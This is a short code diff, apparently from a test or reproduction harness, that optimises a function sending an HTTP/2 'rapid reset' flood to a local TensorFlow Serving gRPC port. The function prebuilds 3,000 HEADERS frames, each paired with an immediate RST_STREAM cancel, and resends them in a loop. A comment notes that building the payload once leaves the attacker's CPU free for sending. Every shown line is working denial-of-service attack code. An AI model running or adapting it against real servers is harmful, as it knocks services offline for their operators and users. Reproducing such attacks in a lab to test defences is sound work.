@@ -135,18 +135,21 @@ def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
 def _rapid_reset(grpc_port: int, stop: threading.Event, seen: dict) -> None:
     import hpack
 
+    # Built once: each connection starts a fresh HPACK context, so the same bytes are valid on
+    # every one, and the attacker spends its CPU on sending, not on encoding (it shares the cores).
+    encoder = hpack.Encoder()
+    frames = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", _frame(4, 0, 0)]
+    for i in range(3000):
+        sid = 2 * i + 1
+        headers = encoder.encode([(":method", "POST"), (":scheme", "http"), (":authority", "x"),
+                                  (":path", "/tensorflow.serving.PredictionService/Predict"),
+                                  ("content-type", "application/grpc"), ("te", "trailers")])
+        frames += [_frame(1, 4, sid, headers), _frame(3, 0, sid, struct.pack(">I", 8))]
+    payload = b"".join(frames)
     while not stop.is_set():
-        encoder = hpack.Encoder()
-        frames = [b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", _frame(4, 0, 0)]
-        for i in range(3000):
-            sid = 2 * i + 1
-            headers = encoder.encode([(":method", "POST"), (":scheme", "http"), (":authority", "x"),
-                                      (":path", "/tensorflow.serving.PredictionService/Predict"),
-                                      ("content-type", "application/grpc"), ("te", "trailers")])
-            frames += [_frame(1, 4, sid, headers), _frame(3, 0, sid, struct.pack(">I", 8))]
         try:
             with socket.create_connection(("127.0.0.1", grpc_port), timeout=5) as sock:
-                sock.sendall(b"".join(frames))
+                sock.sendall(payload)
                 got = b""
                 while chunk := sock.recv(65536):
                     got += chunk
